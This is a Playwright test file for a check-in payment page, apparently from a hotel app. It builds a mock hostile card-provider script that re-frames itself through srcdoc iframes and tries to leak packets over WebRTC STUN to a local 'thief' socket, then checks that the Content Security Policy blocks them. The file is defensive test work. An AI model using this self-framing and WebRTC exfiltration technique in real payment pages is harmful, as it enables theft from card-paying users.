import { createSocket } from 'node:dgram';
import { networkInterfaces } from 'node:os';
import { CheckinPaymentPage, PAYMENT_ON } from '../pages/checkin-payment-page.ts';
import { expect, test } from '../support/fixtures.ts';
import { cardDocument, SCRIPT_URL, serves } from '../support/hostile-card-script.ts';

/** No policy or HTTP interception sees packets of `RTCPeerConnection` from the card document: a socket does. */

/** An address of this machine that a browser sends packets to. */
const HOST =
  Object.values(networkInterfaces())
    .flat()
    .find((address) => address?.family === 'IPv4' && !address.internal)?.address ?? '127.0.0.1';

async function openSocket() {
  const socket = createSocket('udp4');
  let packets = 0;
  socket.on('message', () => {
    packets += 1;
  });
  await new Promise<void>((resolve) => socket.bind(0, '0.0.0.0', resolve));
  return { port: socket.address().port, packets: () => packets, close: () => socket.close() };
}

/** Sends packets to a STUN server. Runs in a page. */
function sendPackets(server: string): void {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${server}` }] });
  connection.createDataChannel('card');
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}

/** A provider's script that loads itself again in new frames. */
const hostile = (server: string) => `
if (location.href.startsWith('about:')) {
  (${sendPackets.toString()})(${JSON.stringify(server)});
} else {
  const own = document.scripts[0].textContent;
  const again = '<script src="${SCRIPT_URL}"></' + 'script>';
  const send = '<script>(${sendPackets.toString().replaceAll("'", "\\'").replaceAll('\n', ' ')})("${server}")</' + 'script>';
  const ways = [again, send, '<script>' + own + '</' + 'script>' + again, '<img src=x onerror="0">' + again];
  window.framed = Promise.all(ways.map((html) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.onload = resolve;
    frame.srcdoc = html;
    document.documentElement.append(frame);
  })));
  window.Multipayment = { init() {}, getToken() {} };
}`;

declare global {
  interface Window {
    framed?: Promise<unknown>;
  }
}

test.describe('a script that frames itself', () => {
  test.use({ expectedErrors: [/Content Security Policy|Content-Security-Policy|Invalid target origin/] });

  test('sends no packet', async ({ page, tenant }) => {
    const thief = await openSocket();
    const control = await openSocket();
    await serves(page, hostile(`${HOST}:${thief.port}`));
    tenant.configure({ ...PAYMENT_ON, card: { script_url: SCRIPT_URL } });
    const guest = new CheckinPaymentPage(page, tenant);
    await guest.goesToCard();
    const card = await cardDocument(page, 'framed');
    await card.evaluate(() => window.framed);

    // The app's own page may send: earlier packets of the frames would be here by now.
    await page.evaluate(sendPackets, `${HOST}:${control.port}`);
    await expect.poll(control.packets).toBeGreaterThan(0);
    expect(thief.packets()).toBe(0);
    thief.close();
    control.close();
  });
});
